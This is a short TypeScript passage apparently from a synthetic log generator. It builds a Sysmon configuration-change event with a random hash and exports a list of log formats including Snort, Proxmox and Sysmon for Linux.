          sysmon(g, host, 16, 3, 16, [['UtcTime', utc(g.now)], ['Configuration', '/opt/sysmon/config.xml'], ['ConfigurationFileHash', `SHA256=${g.hex(64).toUpperCase()}`]]),
        ];
      },
    },
  ],
};

export const ROUND17_FORMATS: readonly FormatSpec[] = [...ROUND17_FORMATS_A, snort, proxmox, sysmonLinux];
